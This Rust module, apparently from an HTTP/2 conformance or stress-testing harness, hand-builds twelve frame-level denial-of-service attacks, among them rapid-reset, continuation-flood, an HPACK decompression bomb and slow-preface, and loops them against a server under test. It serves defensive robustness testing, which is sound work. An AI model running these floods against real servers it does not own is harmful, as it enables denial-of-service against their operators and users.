//! Attackers, who write frames by hand.

use std::iter;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use http2_conformance::frame::{
    self, GET, PREFACE, code, flag, frame, headers, headers_block, kind, rst_stream, setting, settings,
    settings_ack, window_update,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use crate::phase::Scene;

/// How long an attacker rests between one attack and the next.
const REST: Duration = Duration::from_secs(1);
/// How long one waits for the server to end an attack.
const PATIENCE: Duration = Duration::from_secs(15);
/// How often an attack is repeated, if the server lets it.
const TURNS: u32 = 200;

/// What an attacker does.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// What is sent first.
    first: fn() -> Vec<u8>,
    /// What is sent then, over and over; numbers are given in order, from 0.
    then: fn(u32) -> Vec<u8>,
    /// Whether what the server says is read.
    reads: bool,
}

pub(crate) const ATTACKS: [Attack; 12] = [
    Attack {
        name: "rapid-reset",
        first: open,
        then: |turn| each(turn, |stream| [get(stream), rst_stream(stream, code::CANCEL)].concat()),
        reads: true,
    },
    Attack {
        name: "made-you-reset",
        first: open,
        then: |turn| each(turn, |stream| [get(stream), window_update(stream, 0)].concat()),
        reads: true,
    },
    Attack {
        name: "ping-flood",
        first: open,
        then: |_| frame::ping(*b"floodped").repeat(1_000),
        reads: false,
    },
    Attack {
        name: "settings-flood",
        first: open,
        then: |_| settings(&[(setting::INITIAL_WINDOW_SIZE, 1)]).repeat(1_000),
        reads: false,
    },
    Attack {
        name: "priority-flood",
        first: open,
        then: |_| frame::priority(1, 3).repeat(1_000),
        reads: true,
    },
    Attack {
        name: "unknown-frames",
        first: open,
        then: |_| frame(0xbb, 0, 0, b"").repeat(1_000),
        reads: true,
    },
    Attack {
        name: "empty-data",
        first: || [open(), headers(1, 0, frame::POST)].concat(),
        then: |_| frame::data(1, 0, b"").repeat(1_000),
        reads: true,
    },
    Attack {
        name: "window-updates",
        first: || [open(), get(1)].concat(),
        then: |_| window_update(0, 1).repeat(1_000),
        reads: true,
    },
    Attack {
        name: "continuation-flood",
        first: || [open(), frame(kind::HEADERS, 0, 1, &frame::block(GET))].concat(),
        then: |_| frame(kind::CONTINUATION, 0, 1, b""),
        reads: true,
    },
    Attack { name: "hpack-bomb", first: open, then: bomb, reads: true },
    Attack {
        name: "zero-window",
        first: || [PREFACE, &settings(&[(setting::INITIAL_WINDOW_SIZE, 0)])].concat(),
        then: large_responses,
        reads: true,
    },
    Attack { name: "slow-preface", first: || PREFACE[..10].to_vec(), then: |_| Vec::new(), reads: true },
];

fn open() -> Vec<u8> {
    [PREFACE, &settings(&[]), &settings_ack()].concat()
}

fn get(stream: u32) -> Vec<u8> {
    headers(stream, flag::END_STREAM, GET)
}

/// Something on each of a hundred new streams.
fn each(turn: u32, what: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (turn * 100..(turn + 1) * 100).flat_map(|n| what(2 * n + 1)).collect()
}

/// A request whose fields are small on the wire and large when decoded: one large field that is indexed, and thousands
/// of references to it (RFC 7541, 6.1 and 6.2.1).
fn bomb(turn: u32) -> Vec<u8> {
    let mut block = frame::block(GET);
    block.push(0x40);
    block.extend(&frame::literal(b"bomb", &[b'b'; 3_900])[1..]);
    block.extend([0xbe; 10_000]);
    headers_block(2 * turn + 1, flag::END_STREAM, &block)
}

/// A hundred requests for much, once.
fn large_responses(turn: u32) -> Vec<u8> {
    const LARGE: &[(&str, &str)] =
        &[(":method", "GET"), (":scheme", "http"), (":path", "/bytes/1048576"), (":authority", "localhost")];
    if turn > 0 {
        return Vec::new();
    }
    each(turn, |stream| headers(stream, flag::END_STREAM, LARGE))
}

/// Attacks the server in one way after the other, as long as it is let.
pub(crate) async fn attack(scene: Scene, n: u32, attacks: Arc<[Prepared]>) {
    sleep(REST * n / 100).await;
    for attack in attacks.iter().cycle().skip(n as usize) {
        let mut octets = 0;
        // It is what the server is there for that an attack does not get far.
        let ended = attack.run(&scene, &mut octets).await.is_err();
        scene.seen.attack(octets, ended);
        sleep(REST).await;
    }
}

/// An attack, written down beforehand: attackers are not to be slowed down by making it up.
pub(crate) struct Prepared {
    pieces: Vec<Vec<u8>>,
    reads: bool,
}

impl Prepared {
    pub(crate) fn new(attack: &Attack) -> Self {
        let pieces = iter::once((attack.first)()).chain((0..TURNS).map(attack.then)).collect();
        Self { pieces, reads: attack.reads }
    }

    /// Attacks the server once, until it ends the connection, which is an error.
    async fn run(&self, scene: &Scene, octets: &mut u64) -> Result<()> {
        let mut tcp = TcpStream::connect(scene.server).await?;
        let (mut reading, mut writing) = tcp.split();
        let mut write = async || -> Result<()> {
            for piece in &self.pieces {
                writing.write_all(piece).await?;
                *octets += piece.len() as u64;
            }
            Ok(())
        };
        let mut read = async || -> Result<()> {
            let mut buffer = vec![0; 16 << 10];
            while reading.read(&mut buffer).await? > 0 {}
            anyhow::bail!("the server has ended the connection")
        };
        let ended = async {
            if self.reads {
                tokio::try_join!(write(), read()).map(|_: ((), ())| ())
            } else {
                write().await?;
                read().await
            }
        };
        // Time that is up is no error: the server bears with it.
        timeout(PATIENCE, ended).await.unwrap_or(Ok(()))
    }
}
